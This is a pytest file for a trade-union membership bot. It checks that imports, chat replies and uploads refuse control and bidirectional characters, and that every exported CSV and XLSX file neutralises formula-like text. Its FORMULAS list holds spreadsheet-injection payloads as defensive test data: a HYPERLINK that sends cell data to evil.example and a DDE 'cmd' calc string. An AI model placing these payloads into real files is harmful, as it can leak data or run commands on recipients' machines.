"""Issue 10, points 9 and 10: control characters, bidi marks and formulas.

Point 9: such characters are refused at every way in (imports, chat answers, the name and
employer cells of an upload) with a row error or a clear reply, and every writer survives them
anyway. Point 10: a user's text starting with = + - @ (or tab, CR) never becomes a formula in
a file the bot writes. Every file written here is opened again and checked.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from test_imports import ID1, ID2, ID3, UNITS, write_csv, write_xlsx
from test_member_review import Chat, seed

from dialogs.router import DialogRouter
from services import details, member_review, reports, templates, unit_fields
from services.export import export_members
from services.import_rows import ImportReport, write_error_report
from services.imports import HEADERS, run_import
from services.validators import BadText, check_text, visible
from storage.models import Member, Operator, RemarkEdit, Union, UnionKind

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点这里")',
    "+1+2",
    "-3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE = [
    *FORMULAS,
    "常州\x01某某有限公司工会委员会",
    "RTL\u202e公司委员会工会",
    "nul\x00byte",
    "esc\x1b[31m",
    "c1\x85next",
    "del\x7f",
]
_TRIGGER = tuple("=+-@\t\r")
_CONTROL = re.compile(
    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def write_xlsx_raw(path: Path, header, rows: list[list]) -> Path:
    """An .xlsx holding control characters as Excel stores them (``_x0001_``): openpyxl
    refuses to write them, but Excel, WPS and calamine read them back as the characters."""
    esc = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    fixed = [
        [esc.sub(lambda m: f"_x{ord(m[0]):04X}_", v) if isinstance(v, str) else v for v in r]
        for r in rows
    ]
    return write_xlsx(path, header, fixed)


def assert_safe_xlsx(data: bytes | Path) -> list[str]:
    """Open a written workbook again: no formula anywhere, a text that starts like a formula is
    marked as text (quote prefix), no control or bidi character. Returns every string."""
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not _CONTROL.search(c.value), (ws.title, c.coordinate, c.value)
                    if c.value.startswith(_TRIGGER):
                        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    return texts


def assert_safe_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for value in row:
            assert not value.startswith(_TRIGGER), value
            assert not _CONTROL.search(value), value
    return rows


# -- the shared check (point 9) ----------------------------------------------------------------


def test_check_text_refuses_controls_and_bidi_marks() -> None:
    for ch in BIDI:
        with pytest.raises(BadText) as e:
            check_text(f"常州{ch}工会")
        assert e.value.code == "text.bidi" and e.value.char == f"U+{ord(ch):04X}"
        assert ch not in e.value.value and f"[U+{ord(ch):04X}]" in e.value.value
    for ch in "\x00\x01\x08\x0b\x1b\x1f\x7f\x85\x9f\u2028\u2029":
        with pytest.raises(BadText) as e:
            check_text(f"a{ch}b")
        assert e.value.code == "text.control", repr(ch)
    for ch in "\u00ad\u2061\U000e0041":
        with pytest.raises(BadText) as e:
            check_text(f"a{ch}b")
        assert e.value.code == "text.format", repr(ch)
    # newlines only where text may have lines (D7); zero-width characters are dropped
    with pytest.raises(BadText):
        check_text("第一行\n第二行")
    assert check_text("第一行\r\n第二行\u2028第三行", multiline=True) == "第一行\n第二行\n第三行"
    assert check_text("张\u200b三\ufeff\u200c\u200d\u2060") == "张三"
    assert check_text("张　三 ·\ue000") == "张　三 ·\ue000"  # ideographic space, private use
    assert check_text("=HYPERLINK()") == "=HYPERLINK()"  # formulas are the writers' business
    assert visible("a\x01\u202eb\n") == "a[U+0001][U+202E]b[U+000A]"


# -- imports (point 9) -------------------------------------------------------------------------


async def test_imports_refuse_hidden_characters_with_row_errors(any_db, tmp_path) -> None:
    db = any_db
    units = [
        *UNITS,
        ["CZ-X1", "常州\x01某某有限公司工会委员会", "CZ-TN", "基层工会"] + [""] * 11,
        ["CZ-X2", "常州市某某\u202e有限公司工会委员会", "CZ-TN", "基层工会"] + [""] * 11,
        ["CZ-X3", "常州市某某有限公司工会委员会", "CZ-TN", "基层工会"]
        + [""] * 9
        + ["张\u200f三", ""],
    ]
    r = await run_import(db, "units", write_xlsx_raw(tmp_path / "u.xlsx", HEADERS["units"], units))
    assert not r.written and r.error_count == 3
    got = {(e.row, e.column): e for e in r.errors}
    assert got[(6, "单位名称")].value == "常州[U+0001]某某有限公司工会委员会"
    assert "控制字符" in got[(6, "单位名称")].reason
    assert "文字方向" in got[(7, "单位名称")].reason and "U+202E" in got[(7, "单位名称")].reason
    assert "文字方向" in got[(8, "联系人")].reason
    shown = r.render()
    assert not _CONTROL.search(shown) and "第 7 行【单位名称】" in shown
    # the error list as a file holds the same, safely
    texts = assert_safe_xlsx(write_error_report(r, tmp_path / "err.xlsx").read_bytes())
    assert "常州[U+0001]某某有限公司工会委员会" in texts

    r = await run_import(db, "units", write_csv(tmp_path / "u.csv", HEADERS["units"], UNITS))
    assert r.ok, r.render()
    ops = [["CZ-TN-0001", "wecom", "lzh", "林\x1b子豪", "联系人"]]
    r = await run_import(db, "operators", write_csv(tmp_path / "o.csv", HEADERS["operators"], ops))
    assert not r.written and [(e.row, e.column) for e in r.errors] == [(2, "姓名")]
    members = [
        ["CZ-TN-0001", ID1, "张\u202e伟", "", "", ""],
        ["CZ-TN-0001", ID2, "李娜", "", "", "五金厂\x01"],
        ["CZ-TN-0001", ID3, "王强", "62\x0717", "", ""],
        ["CZ-TN-0001", "32040219800101\x01001X", "赵六", "", "", ""],
    ]
    for name, write in (("m.csv", write_csv), ("m.xlsx", write_xlsx_raw)):
        r = await run_import(db, "members", write(tmp_path / name, HEADERS["members"], members))
        assert not r.written, name
        assert [(e.row, e.column) for e in r.errors] == [
            (2, "姓名"),
            (3, "备注"),
            (4, "工会卡号"),
            (5, "身份证号码"),
        ], (name, r.render())
        assert not _CONTROL.search(r.render())
        assert_safe_xlsx(write_error_report(r, tmp_path / f"{name}.err.xlsx").read_bytes())
    async with db.session() as s:
        assert not (await s.scalars(select(Member))).all()
        assert not (await s.scalars(select(Operator))).all()


# -- chat answers (point 9) --------------------------------------------------------------------


def test_unit_fields_refuse_hidden_characters() -> None:
    kw = {"current": {}, "edits": {}, "union_kind": "grassroots"}
    for key, raw in (
        ("name", "常州市某某\u202e有限公司工会委员会"),
        ("name", "常州市\x01某某有限公司工会委员会"),
        ("other_info", "职工之家\x1b建设"),
        ("union_status", "1\u200e"),
        ("contact_name", "张\u2066三"),
    ):
        with pytest.raises(BadText):
            unit_fields.check_field(key, raw, **kw)
    ok = unit_fields.check_field("other_info", "第一行\n第二行", **kw)
    assert ok.value == "第一行\n第二行"


async def test_chat_unit_edits_with_hidden_characters_are_refused(db, redis, settings) -> None:
    from test_unit_review import say
    from test_unit_review import seed as seed_units

    from dialogs.texts import unit_review as UT

    await seed_units(db)
    send = say(DialogRouter(settings, db, redis))
    await send("年审")
    await send("1")
    out = await send("常州市某某\u202e有限公司工会委员会")
    assert "U+202E" in out and "\u202e" not in out and UT.REJECT["text.bidi"][:8] in out
    out = await send("常州市某某有限公司工会委员会")
    assert UT.SAVED[:4] in out
    out = await send("12")
    out = await send("职工之家\x1b建设")
    assert "U+001B" in out and "\x1b" not in out
    out = await send("第一行\n第二行")  # D7 may have lines
    assert UT.REJECT["text.control"][:8] not in out and UT.SAVED[:4] in out


async def test_chat_remark_with_hidden_characters_is_refused(db, redis, settings) -> None:
    from dialogs.texts import member_review as MT

    sd = await seed(db, members=3, kind=UnionKind.joint)
    chat = Chat(DialogRouter(settings, db, redis))
    await chat.send("年审")
    await chat.send("1")
    out = await chat.send("备注 2 某某\u202e公司")
    assert "U+202E" in out and "\u202e" not in out and MT.REMARK_HIDDEN[:6] in out
    out = await chat.send("备注 2 某某\x01公司")
    assert "U+0001" in out
    async with db.session() as s:
        assert not (
            await s.scalars(select(RemarkEdit).where(RemarkEdit.review_id == sd.review_id))
        ).all()


# -- the name and employer cells of an upload (point 9) ------------------------------------------


async def test_upload_name_and_employer_cells_with_hidden_characters(any_db) -> None:
    from services.uploads import Sheet

    sd = await seed(any_db, members=4, kind=UnionKind.joint)
    ids = sd.ids
    sheet = Sheet(
        "xlsx",
        ["id", "name", "reason", "employer"],
        1,
        [2, 3, 4, 5],
        {
            "id": ids,
            "name": ["会员1\u202e", "会员2", "会员3", "会\u200b员4"],
            "reason": ["退休", "", "", ""],
            "employer": ["", "甲厂\x01", "乙\u2067厂", "丙厂"],
        },
        {"id": "ssss", "name": "ssss", "reason": "seee", "employer": "esss"},
    )
    check = await member_review.check_file(any_db, sd.review_id, sheet)
    assert [(e.row, e.code) for e in check.errors] == [
        (2, "text.hidden"),
        (3, "text.hidden"),
        (4, "text.hidden"),
    ]
    assert check.errors[0].detail == "姓名 U+202E" and check.errors[1].detail == "所在单位 U+0001"
    assert list(check.remarks.values()) == ["丙厂"]  # the zero-width space is dropped
    report = templates.build_error_report(
        [(e.row, e.raw, e.code) for e in check.errors], "错误明细"
    )
    assert_safe_xlsx(report)


# -- every writer survives hostile text, and writes no formula (points 9, 10) --------------------


def test_template_and_upload_error_report_write_no_formula() -> None:
    assert_safe_xlsx(templates.build_template(False))
    assert_safe_xlsx(templates.build_template(True))
    rows = [(i + 2, raw, f"原因{raw}") for i, raw in enumerate(HOSTILE)]
    texts = assert_safe_xlsx(templates.build_error_report(rows, HOSTILE[0]))
    assert HOSTILE[0] in texts  # kept as the user's text, marked as text
    assert "常州[U+0001]某某有限公司工会委员会" in texts  # the cell as uploaded, made visible
    assert "原因常州\ufffd某某有限公司工会委员会" in texts  # any other text: replaced
    assert templates.error_report_name("=cmd\x01.xlsx") == "=cmd-错误明细.xlsx"


def test_import_error_report_writes_no_formula(tmp_path) -> None:
    report = ImportReport("members", "m.csv")
    for i, raw in enumerate(HOSTILE):
        report.add(i + 2, "备注", raw, "备注有误")
    assert_safe_xlsx(write_error_report(report, tmp_path / "e.xlsx").read_bytes())


def test_details_xlsx_writes_no_formula() -> None:
    d = details.ReviewDetails(
        review_id=1,
        union_name=HOSTILE[0],
        year=2026,
        round=1,
        level=1,
        levels=2,
        submitted_at=None,
        changes=[details.FieldChange("单位名称", h, h) for h in HOSTILE],
        removed=[details.RemovedRow(h, "3204**********123X", "退休") for h in HOSTILE],
    )
    texts = assert_safe_xlsx(details.build_xlsx(d))
    assert "3204**********123X" in texts


async def test_progress_report_survives_hostile_unit_names(db, settings) -> None:
    from progress_seed import seed_tree
    from test_reports import NOW

    tree = await seed_tree(db)
    names = iter(HOSTILE)
    async with db.transaction() as s:
        for code in ("G1", "G2", "G3", "G4", "G5", "G6"):
            await s.execute(
                update(Union)
                .where(Union.id == tree.unions[code])
                .values(name=next(names), contact_name=next(names))
            )
    _, data = await reports.progress_report(db, settings, "D1", NOW, mask_mobiles=True)
    texts = assert_safe_xlsx(data)
    assert HOSTILE[0] in texts


async def test_export_members_hostile_text_and_formulas_round_trip(any_db, tmp_path) -> None:
    db = any_db
    r = await run_import(db, "units", write_csv(tmp_path / "u.csv", HEADERS["units"], UNITS))
    assert r.ok, r.render()
    # remarks typed in chat like these reach the members on approval; names from older data
    rows = [
        ["CZ-TN-0001", ID1, "张伟", "", "2015-06-01", FORMULAS[0]],
        ["CZ-TN-0001", ID2, "李娜", "", "", "+86 常州"],
        ["CZ-TN-0001", ID3, "王强", "", "", "@某某 -公司"],
    ]
    r = await run_import(db, "members", write_csv(tmp_path / "m.csv", HEADERS["members"], rows))
    assert r.ok and r.inserted == 3, r.render()
    async with db.transaction() as s:
        await s.execute(update(Member).where(Member.id_number == ID3).values(name="王\x01强"))
    out = tmp_path / "x.csv"
    assert await export_members(db, "CZ-TN-0001", out) == 3
    got = assert_safe_csv(out)
    by_id = {row[1]: row for row in got[1:]}
    assert by_id[ID1][5] == "'" + FORMULAS[0] and by_id[ID1][4] == "2015-06-01"
    assert by_id[ID2][5] == "'+86 常州" and by_id[ID3][2] == "王\ufffd强"
    xlsx_out = tmp_path / "x.xlsx"
    assert await export_members(db, "CZ-TN-0001", xlsx_out) == 3
    texts = assert_safe_xlsx(xlsx_out)
    assert FORMULAS[0] in texts and ID1 in texts  # the user's text, as text; IDs intact
    # re-import: the apostrophe the CSV export added is taken off again; nothing changes
    async with db.transaction() as s:
        await s.execute(update(Member).where(Member.id_number == ID3).values(name="王强"))
    for path in (out, xlsx_out):
        fixed = tmp_path / f"fixed{path.suffix}"
        text = path.read_bytes() if path.suffix == ".xlsx" else None
        if text is None:
            fixed.write_text(
                out.read_text(encoding="utf-8-sig").replace("王\ufffd强", "王强"), "utf-8-sig"
            )
        else:
            wb = load_workbook(path)
            for row in wb.active.iter_rows():
                if row[2].value == "王\ufffd强":
                    row[2].value = "王强"
            wb.save(fixed)
        r = await run_import(db, "members", fixed)
        assert r.ok and (r.inserted, r.updated, r.unchanged) == (0, 0, 3), r.render()
    async with db.session() as s:
        remark = await s.scalar(select(Member.remark).where(Member.id_number == ID1))
    assert remark == FORMULAS[0]


# -- no crash prints a full ID number ---------------------------------------------------------


def test_cli_crash_masks_id_numbers(monkeypatch, capsys, tmp_path) -> None:
    """Whatever goes wrong in a command, what it prints holds no full ID number or mobile."""
    from bot import cli

    def boom(args):
        raise ValueError(f"{ID1}\x01 cannot be used in worksheets (mobile 13812345678)")

    monkeypatch.setattr(cli.import_export, "cmd_export_members", boom)
    code = cli.main(["export", "members", "--unit", "U", "-o", str(tmp_path / "x.csv")])
    assert code == 1
    err = capsys.readouterr().err
    assert ID1 not in err and "13812345678" not in err and "\x01" not in err
    assert ID1[:4] + "*" * 10 + ID1[-4:] in err and "ValueError" in err


async def test_chat_report_survives_hostile_unit_names(db, redis, settings) -> None:
    """The chat 报表 of a federation one of whose units has a control character in its name."""
    sd = await seed(db, members=3)
    async with db.transaction() as s:
        await s.execute(
            update(Union).where(Union.id == sd.unit_id).values(name=HOSTILE[6], contact_name="=x")
        )
    chat = Chat(DialogRouter(settings, db, redis), "a_dist")
    out = await chat.send("报表")
    assert chat.files, out
    texts = assert_safe_xlsx(chat.files[0].content)
    assert "常州\ufffd某某有限公司工会委员会" in texts and "=x" in texts


async def test_return_reason_with_hidden_characters_is_refused(db, redis, settings) -> None:
    from approval_seed import seed_tree
    from test_approval_dialog import click, sent
    from test_approval_dialog import say as text_event

    from dialogs.texts import approval as AT
    from services import approvals
    from storage.models import Review, ReviewStatus

    router = DialogRouter(settings, db, redis)
    t = await seed_tree(db)
    res = await approvals.submit(db, settings, t.review.id, t.ops["c_unit"].id)
    card = (await sent(db, "a_dist", "card"))[0]
    await router.handle(click("a_dist", "return", res.step_id, card.task_id))
    reply = await router.handle(text_event("a_dist", "名单\u202e不符"))
    out = "\n".join(m.text for m in reply.messages)
    assert "U+202E" in out and "\u202e" not in out and AT.RETURN_HIDDEN[:6] in out
    async with db.session() as s:
        assert (await s.get(Review, t.review.id)).status == ReviewStatus.submitted
    reply = await router.handle(text_event("a_dist", "会员名单\n与人数不符"))
    async with db.session() as s:
        review = await s.get(Review, t.review.id)
    assert review.status == ReviewStatus.returned and review.return_reason == "会员名单\n与人数不符"
